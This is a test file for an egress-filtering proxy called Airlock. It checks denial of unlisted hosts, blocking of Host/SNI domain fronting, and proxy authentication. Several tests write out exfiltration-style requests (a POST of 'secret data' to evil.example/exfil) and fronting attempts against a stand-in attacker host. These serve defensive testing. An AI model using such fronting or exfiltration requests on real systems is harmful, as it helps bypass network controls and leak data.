// Refusals through the real proxy: denied hosts never reach their server, Host/SNI must match the
// CONNECT target (no domain fronting), and requests without a valid session credential get 407.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import net from 'node:net';
import { createTestPki, rmTmp, sleep, startAirlock, startHttpUpstream, startHttpsUpstream } from '../helpers/servers.js';
import type { AirlockHandle, TestPki, TestUpstream } from '../helpers/servers.js';
import { basicAuth, httpViaProxy, httpsViaProxy, rawConnect, rawExchange, tunnelThrough } from '../helpers/clients.js';

const POLICY = `
version: 1
name: deny-test
allow:
  - host: api.github.com
  - host: github.com
`;

let pki: TestPki;
let api: TestUpstream;
let apiPlain: TestUpstream;
let evil: TestUpstream;
let evilPlain: TestUpstream;
let airlock: AirlockHandle;

beforeAll(async () => {
  pki = await createTestPki();
  api = await startHttpsUpstream({ pki, names: ['api.github.com', 'github.com'] });
  apiPlain = await startHttpUpstream();
  evil = await startHttpsUpstream({ pki, names: ['evil.example'] });
  evilPlain = await startHttpUpstream();
  airlock = await startAirlock({
    policy: POLICY,
    resolve: {
      'api.github.com:443': api.port,
      'github.com:443': api.port,
      'api.github.com:80': apiPlain.port,
      'evil.example:443': evil.port,
      'evil.example:80': evilPlain.port,
    },
    upstreamCa: [pki.caPem],
  });
});

afterAll(async () => {
  await airlock?.close();
  await Promise.all([api?.close(), apiPlain?.close(), evil?.close(), evilPlain?.close()]);
  rmTmp(pki?.dir);
});

function expectEvilUntouched() {
  expect(evil.connections).toBe(0);
  expect(evil.requests).toHaveLength(0);
  expect(evilPlain.connections).toBe(0);
  expect(evilPlain.requests).toHaveLength(0);
}

describe('denied hosts', () => {
  it('a denied CONNECT the notice CA cannot speak for is answered 403 in plain HTTP, before any TLS, and the upstream sees no connection', async () => {
    // api.github.com is allowed, so its subtree is excluded from the notice CA: bare 403.
    const r = await rawConnect({ proxyPort: airlock.port, target: 'evil.api.github.com:443', proxyAuthorization: airlock.proxyAuthorization });
    expect(r.status).toBe(403);
    expect(r.head).toMatch(/^HTTP\/1\.1 403 Forbidden by Airlock policy "deny-test": evil\.api\.github\.com:443 no_rule; see http:\/\/airlock\.internal\/ to ask for access\r\n/);
    expect(r.head).toMatch(/\r\nContent-Type: application\/json/i);
    // The proxy closed the connection after the answer: no tunnel, no TLS handshake happened.
    expect(r.socket.destroyed || r.socket.readableEnded).toBe(true);
    const body = JSON.parse(r.body);
    expect(body).toMatchObject({ error: 'airlock_denied', reason: 'no_rule', host: 'evil.api.github.com:443', policy: 'deny-test', session: airlock.session.id });
    expect(body.how_to_get_access).toContain('evil.api.github.com');
    const line = await airlock.waitForAudit((l) => l.kind === 'tunnel' && l.host === 'evil.api.github.com');
    expect(line).toMatchObject({ method: 'CONNECT', status: 403, action: 'deny', reason: 'no_rule', rule: null, bytes_up: 0, bytes_down: 0 });
    expectEvilUntouched();
  });

  it('a denied plain-HTTP request gets 403 and the upstream sees no connection', async () => {
    const res = await httpViaProxy({ proxyPort: airlock.port, proxyAuthorization: airlock.proxyAuthorization, url: 'http://evil.example/exfil', method: 'POST', body: 'secret data' });
    expect(res.status).toBe(403);
    expect(res.headers['x-airlock-decision']).toBe('deny; reason=no_rule');
    expect(JSON.parse(res.body)).toMatchObject({ reason: 'no_rule', host: 'evil.example:80' });
    expectEvilUntouched();
  });

  it('a denied port on an allowed host is refused at CONNECT', async () => {
    const r = await rawConnect({ proxyPort: airlock.port, target: 'api.github.com:22', proxyAuthorization: airlock.proxyAuthorization });
    expect(r.status).toBe(403);
    expect(JSON.parse(r.body)).toMatchObject({ reason: 'port_not_allowed', rule: 'allow[0] api.github.com' });
  });

  it('a malformed CONNECT target is answered 400', async () => {
    const r = await rawConnect({ proxyPort: airlock.port, target: 'api.github.com', proxyAuthorization: airlock.proxyAuthorization });
    expect(r.status).toBe(400);
  });
});

describe('Host / SNI must match the CONNECT target', () => {
  it('Host: evil.example inside a tunnel to api.github.com → 403 host_mismatch, nothing forwarded', async () => {
    const before = api.requests.length;
    const tls = await tunnelThrough(airlock, 'api.github.com');
    const answer = await rawExchange(tls, 'GET /fronted HTTP/1.1\r\nHost: evil.example\r\n\r\n', /\}\n$/);
    tls.destroy();
    expect(answer).toMatch(/^HTTP\/1\.1 403 /);
    expect(answer).toMatch(/x-airlock-decision: deny; reason=host_mismatch/i);
    expect(api.requests.length).toBe(before);
    expectEvilUntouched();
    const line = await airlock.waitForAudit((l) => l.kind === 'request' && l.path === '/fronted');
    expect(line).toMatchObject({ host: 'api.github.com', port: 443, status: 403, action: 'deny', reason: 'host_mismatch' });
  });

  it('a Host header naming another port → 403 host_mismatch', async () => {
    const before = api.requests.length;
    const tls = await tunnelThrough(airlock, 'api.github.com');
    const answer = await rawExchange(tls, 'GET /port HTTP/1.1\r\nHost: api.github.com:8443\r\n\r\n', /\}\n$/);
    tls.destroy();
    expect(answer).toMatch(/^HTTP\/1\.1 403 /);
    expect(answer).toContain('host_mismatch');
    expect(api.requests.length).toBe(before);
  });

  it('an absolute-form target for another host inside the tunnel → 403 host_mismatch', async () => {
    const tls = await tunnelThrough(airlock, 'api.github.com');
    const answer = await rawExchange(tls, 'GET https://evil.example/abs HTTP/1.1\r\nHost: evil.example\r\n\r\n', /\}\n$/);
    tls.destroy();
    expect(answer).toMatch(/^HTTP\/1\.1 403 /);
    expect(answer).toContain('host_mismatch');
    expectEvilUntouched();
  });

  it('SNI naming a denied host inside a tunnel to api.github.com → 403 host_mismatch', async () => {
    const before = api.requests.length;
    const tls = await tunnelThrough(airlock, 'api.github.com', {
      servername: 'evil.example',
      // The proxy will not mint a leaf for a denied name; accept the api.github.com one to get
      // as far as sending a request.
      checkServerIdentity: () => undefined,
    });
    expect(tls.getPeerX509Certificate()?.subjectAltName).toBe('DNS:api.github.com');
    const answer = await rawExchange(tls, 'GET /sni HTTP/1.1\r\nHost: api.github.com\r\n\r\n', /\}\n$/);
    tls.destroy();
    expect(answer).toMatch(/^HTTP\/1\.1 403 /);
    expect(answer).toContain('host_mismatch');
    expect(api.requests.length).toBe(before);
    expectEvilUntouched();
  });

  it('SNI and Host naming another allowed host inside the tunnel are refused too (no fronting between allowed hosts)', async () => {
    const before = api.requests.length;
    const tls = await tunnelThrough(airlock, 'api.github.com', { servername: 'github.com' });
    // For an allowed SNI the proxy presents that name's leaf, so verification succeeds...
    expect(tls.getPeerX509Certificate()?.subjectAltName).toBe('DNS:github.com');
    const answer = await rawExchange(tls, 'GET /front HTTP/1.1\r\nHost: github.com\r\n\r\n', /\}\n$/);
    tls.destroy();
    // ...but the request is still refused: it is not for the host the tunnel was opened to.
    expect(answer).toMatch(/^HTTP\/1\.1 403 /);
    expect(answer).toContain('host_mismatch');
    expect(api.requests.length).toBe(before);
  });

  it('plain HTTP: an absolute URI for api.github.com with Host: evil.example → 403', async () => {
    const before = apiPlain.requests.length;
    const res = await httpViaProxy({
      proxyPort: airlock.port,
      proxyAuthorization: airlock.proxyAuthorization,
      url: 'http://api.github.com/plain-mismatch',
      headers: { Host: 'evil.example' },
    });
    expect(res.status).toBe(403);
    expect(JSON.parse(res.body)).toMatchObject({ reason: 'host_mismatch' });
    expect(apiPlain.requests.length).toBe(before);
    expectEvilUntouched();
    // The refused request is audited with the target it named (not '-').
    const line = await airlock.waitForAudit((l) => l.path === '/plain-mismatch');
    expect(line).toMatchObject({ scheme: 'http', host: 'api.github.com', port: 80, status: 403, reason: 'host_mismatch', action: 'deny' });
  });

  it('plain HTTP with matching Host is forwarded (control for the test above)', async () => {
    const res = await httpViaProxy({ proxyPort: airlock.port, proxyAuthorization: airlock.proxyAuthorization, url: 'http://api.github.com/plain-ok' });
    expect(res.status).toBe(200);
    expect(JSON.parse(res.body)).toMatchObject({ path: '/plain-ok', host: 'api.github.com' });
  });

  it('an https:// absolute URI sent as a plain proxy request is refused (must use CONNECT)', async () => {
    const before = api.requests.length;
    const res = await httpViaProxy({ proxyPort: airlock.port, proxyAuthorization: airlock.proxyAuthorization, url: 'https://api.github.com/x' });
    expect(res.status).toBe(400);
    expect(res.body).toContain('CONNECT');
    expect(api.requests.length).toBe(before);
  });
});

describe('407 without a valid session credential', () => {
  const wrongToken = () => basicAuth(airlock.session.id, 'not-the-token');
  const cases: [string, () => string | undefined][] = [
    ['no Proxy-Authorization', () => undefined],
    ['wrong token', wrongToken],
    ['unknown session', () => basicAuth('s-000000000000', airlock.session.token)],
    ['not Basic', () => `Bearer ${airlock.session.token}`],
  ];

  it.each(cases)('CONNECT with %s → 407 with a Basic challenge; nothing reaches upstream', async (_name, auth) => {
    const connections = api.connections;
    const r = await rawConnect({ proxyPort: airlock.port, target: 'api.github.com:443', proxyAuthorization: auth() });
    expect(r.status).toBe(407);
    expect(r.head).toMatch(/\r\nProxy-Authenticate: Basic realm="airlock"/i);
    expect(r.body).toContain('proxy authentication required');
    expect(api.connections).toBe(connections);
  });

  it.each(cases)('plain HTTP with %s → 407; nothing reaches upstream', async (_name, auth) => {
    const before = apiPlain.connections;
    const res = await httpViaProxy({ proxyPort: airlock.port, proxyAuthorization: auth(), url: 'http://api.github.com/needs-auth' });
    expect(res.status).toBe(407);
    expect(res.headers['proxy-authenticate']).toBe('Basic realm="airlock"');
    expect(apiPlain.connections).toBe(before);
    expect(apiPlain.requests.some((r) => r.url === '/needs-auth')).toBe(false);
  });

  it('plain WebSocket upgrade without credentials → 407', async () => {
    const socket = net.connect({ host: '127.0.0.1', port: airlock.port });
    await new Promise((resolve) => socket.once('connect', resolve));
    const answer = await rawExchange(
      socket,
      'GET http://api.github.com/ws HTTP/1.1\r\nHost: api.github.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
    );
    expect(answer).toMatch(/^HTTP\/1\.1 407 /);
    expect(apiPlain.requests.some((r) => r.url === '/ws')).toBe(false);
  });

  it('unauthenticated attempts are not written to the session audit log', async () => {
    await sleep(50);
    const lines = await airlock.auditLines();
    expect(lines.some((l) => l.path === '/needs-auth' || l.status === 407)).toBe(false);
  });
});

describe('malformed requests', () => {
  it('an oversized header block gets 431', async () => {
    const socket = net.connect({ host: '127.0.0.1', port: airlock.port });
    await new Promise((resolve) => socket.once('connect', resolve));
    const answer = await rawExchange(
      socket,
      `GET http://api.github.com/big HTTP/1.1\r\nHost: api.github.com\r\nProxy-Authorization: ${airlock.proxyAuthorization}\r\nX-Big: ${'a'.repeat(40_000)}\r\n\r\n`,
    );
    expect(answer).toMatch(/^HTTP\/1\.1 431 /);
    expect(apiPlain.requests.some((r) => r.url === '/big')).toBe(false);
  });

  it('an origin-form request to the proxy (client not configured for a proxy) gets 400', async () => {
    const socket = net.connect({ host: '127.0.0.1', port: airlock.port });
    await new Promise((resolve) => socket.once('connect', resolve));
    const answer = await rawExchange(socket, `GET /direct HTTP/1.1\r\nHost: api.github.com\r\nProxy-Authorization: ${airlock.proxyAuthorization}\r\nConnection: close\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 400 /);
    expect(answer).toContain('configured to use the proxy');
  });
});
